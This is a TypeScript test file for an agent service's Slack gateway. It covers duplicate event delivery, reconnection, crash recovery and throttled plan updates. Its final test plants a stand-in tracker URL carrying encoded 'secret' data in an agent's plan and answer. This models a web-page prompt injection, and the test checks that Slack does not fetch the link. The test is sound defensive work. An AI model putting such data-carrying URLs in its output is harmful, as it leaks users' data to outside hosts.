import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { EventSink, TaskExecutor, TaskOutcome, TaskRun } from '../../../src/gateway/ports.ts';
import { eventually } from '../../harness/gateway-fixture.ts';
import { ScriptedExecutor } from '../../harness/scripted-executor.ts';
import { SlackEmulator } from '../../harness/slack-emulator.ts';
import { slackFixture } from '../../harness/slack-fixture.ts';

const CHILD = fileURLToPath(new URL('../../harness/slack-crash-child.ts', import.meta.url));

let slack: SlackEmulator;
before(async () => {
  slack = await SlackEmulator.start();
  slack.addUser({ id: 'U1ALICE', name: 'alice' });
});
after(() => slack?.close());

test('a repeated delivery of the same event runs once', async () => {
  const executor = new ScriptedExecutor({ hang: false });
  const f = await slackFixture({ executor, slack });
  try {
    const ts = slack.nextTs();
    const event = {
      type: 'message',
      channel: 'D1',
      channel_type: 'im',
      user: 'U1ALICE',
      text: 'once',
      ts,
    };
    await slack.send(event);
    await slack.send(event, { retry: 1 });
    await slack.send({ ...event }, { retry: 2 });
    await slack.waitFor(() => slack.repliesIn('D1', ts).length > 0, 'the reply');
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(executor.runs.length, 1);
    assert.equal(slack.repliesIn('D1', ts).length, 1);
  } finally {
    await f.close();
  }
});

test('after a refresh request or a dropped connection the app reconnects and keeps working', async () => {
  const executor = new ScriptedExecutor({ hang: false });
  const f = await slackFixture({ executor, slack });
  try {
    const before = slack.connections;
    slack.refresh();
    await slack.waitFor(() => slack.connections > before && slack.connected, 'a new connection');
    const dropped = slack.connections;
    slack.drop();
    await slack.waitFor(() => slack.connections > dropped && slack.connected, 'a reconnection');
    await eventually(() => f.channel.health().state === 'connected', 'health back to connected');
    const m = await slack.post({ user: 'U1ALICE', channel: 'D1', text: 'still there?' });
    await slack.waitFor(() => slack.repliesIn('D1', m.ts).length > 0, 'the reply');
  } finally {
    await f.close();
  }
});

/**
 * Starts test/harness/slack-crash-child.ts on `dir` (the fixture writes the config there
 * and is stopped at once) and waits until it is connected; `exited` resolves with its exit signal.
 */
async function startCrashChild(
  dir: string,
  mode: 'after-store' | 'after-reply-posted',
): Promise<{ exited: Promise<unknown> }> {
  const setup = await slackFixture({ executor: new ScriptedExecutor(), slack, dir });
  await setup.stopGateway();
  const child = spawn(process.execPath, [CHILD, dir, slack.apiUrl, mode], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  let out = '';
  child.stdout.on('data', (b: Buffer) => (out += b));
  const exited = new Promise((r) => child.once('exit', (_c, sig) => r(sig)));
  await eventually(() => out.includes('"started"'), 'the child to start');
  await slack.waitForConnection();
  return { exited };
}

test('errand killed after storing a message and before acknowledging it loses nothing', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'errand-slack-crash-'));
  try {
    const { exited } = await startCrashChild(dir, 'after-store');
    const ts = slack.nextTs();
    const event = {
      type: 'message',
      channel: 'D9',
      channel_type: 'im',
      user: 'U1ALICE',
      text: 'survive this',
      ts,
    };
    const unacked = slack.send(event, { ackTimeoutMs: 3000 }).catch((e: Error) => e);
    assert.equal(await exited, 'SIGKILL');
    assert.ok((await unacked) instanceof Error, 'Slack got no acknowledgement');
    // Slack delivers the unacknowledged event again to the restarted app.
    const executor = new ScriptedExecutor({ hang: false });
    const f = await slackFixture({ executor, slack, dir });
    try {
      await slack.send(event, { retry: 1 });
      await slack.waitFor(() => slack.repliesIn('D9', ts).length > 0, 'the reply');
      await new Promise((r) => setTimeout(r, 300));
      assert.equal(executor.runs.length, 1);
      assert.equal(slack.repliesIn('D9', ts).length, 1);
    } finally {
      await f.close();
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

for (const [what, words] of [
  ['a reply in several messages', 1400],
  ['a reply too long to show in full, and its reply.md,', 2600],
] as const) {
  test(`errand killed after posting ${what} and before marking it sent does not post it again`, async () => {
    const dir = mkdtempSync(join(tmpdir(), 'errand-slack-crash-'));
    try {
      const { exited } = await startCrashChild(dir, 'after-reply-posted');
      const ts = slack.nextTs();
      const text = Array.from({ length: words }, (_, i) => `word${i}`).join(' ');
      await slack.send({
        type: 'message',
        channel: 'D7',
        channel_type: 'im',
        user: 'U1ALICE',
        text,
        ts,
      });
      assert.equal(await exited, 'SIGKILL');
      const posted = slack.repliesIn('D7', ts).map((m) => ({ text: m.text, files: m.files }));
      assert.ok(posted.length > 1, `the whole reply was posted before the kill: ${posted.length}`);
      // The restarted errand finds the reply pending and sends it again, with the same id.
      const f = await slackFixture({ executor: new ScriptedExecutor({ hang: false }), slack, dir });
      try {
        await eventually(async () => {
          const all = await f.gateway.store.listDeliveries({});
          return all.find((d) => d.kind === 'reply')?.state === 'sent';
        }, 'the reply marked sent');
        const after = slack.repliesIn('D7', ts).map((m) => ({ text: m.text, files: m.files }));
        assert.deepEqual(after, posted, 'the thread shows the reply once');
      } finally {
        await f.close();
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
}

/** Rewrites its plan every 50 ms for 2.5 s. */
class BusyPlanner implements TaskExecutor {
  async run(run: TaskRun, _signal: AbortSignal, events: EventSink): Promise<TaskOutcome> {
    for (let i = 0; i < 50; i++) {
      await events.event('plan', {
        items: [
          { content: `step ${i}`, status: 'in_progress' },
          { content: 'ship it', status: 'pending' },
        ],
      });
      await new Promise((r) => setTimeout(r, 50));
    }
    return { kind: 'success', text: 'planned', files: [], sessionId: `s-${run.conversation.id}` };
  }
}

test('plan progress is one message, updated at most once a second', async () => {
  const f = await slackFixture({ executor: new BusyPlanner(), slack });
  try {
    const start = slack.calls.length;
    const m = await slack.post({ user: 'U1ALICE', channel: 'D1', text: 'plan a lot' });
    await slack.waitFor(
      () => slack.repliesIn('D1', m.ts).some((x) => x.text === 'planned'),
      'the reply',
    );
    await new Promise((r) => setTimeout(r, 1200));
    const calls = slack.calls.slice(start);
    const posts = calls.filter(
      (c) => c.method === 'chat.postMessage' && /Plan/.test(String(c.args.text)),
    );
    const updates = calls.filter((c) => c.method === 'chat.update');
    assert.equal(posts.length, 1, 'one progress message');
    assert.ok(
      updates.length >= 1 && updates.length <= 4,
      `${updates.length} updates for 50 changes in 2.5 s`,
    );
    const progress = slack.repliesIn('D1', m.ts).find((x) => /Plan/.test(x.text))!;
    assert.match(progress.text, /▶️ step 49/, 'the last plan is shown');
  } finally {
    await f.close();
  }
});

const PIXEL = 'https://tracker.example/p.png?d=c2VjcmV0';

/** Plans a step naming an image address, as an agent told so by a web page would. */
class PixelPlanner implements TaskExecutor {
  async run(run: TaskRun, _signal: AbortSignal, events: EventSink): Promise<TaskOutcome> {
    await events.event('plan', {
      items: [{ content: `fetch ${PIXEL} for the chart`, status: 'in_progress' }],
    });
    await new Promise((r) => setTimeout(r, 200));
    return {
      kind: 'success',
      text: `done, see ${PIXEL} and ![chart](${PIXEL})`,
      files: [],
      sessionId: `s-${run.conversation.id}`,
    };
  }
}

test("a URL the agent put in its plan or answer is not fetched by Slack's unfurler", async () => {
  // Slack's servers fetch a media link in a bot's message to show a preview, unless the
  // post says not to: the address could carry what the agent read, out of the sandbox.
  const f = await slackFixture({ executor: new PixelPlanner(), slack });
  try {
    const m = await slack.post({ user: 'U1ALICE', channel: 'D1', text: 'draw the chart' });
    await slack.waitFor(
      () => slack.repliesIn('D1', m.ts).some((x) => /^done/.test(x.text)),
      'the reply',
    );
    const plan = slack.repliesIn('D1', m.ts).find((x) => /Plan/.test(x.text));
    assert.ok(plan?.text.includes(PIXEL), 'the plan shows the step');
    assert.deepEqual(
      slack.unfurled.filter((u) => u.includes('tracker.example')),
      [],
      'Slack would fetch the address',
    );
  } finally {
    await f.close();
  }
});
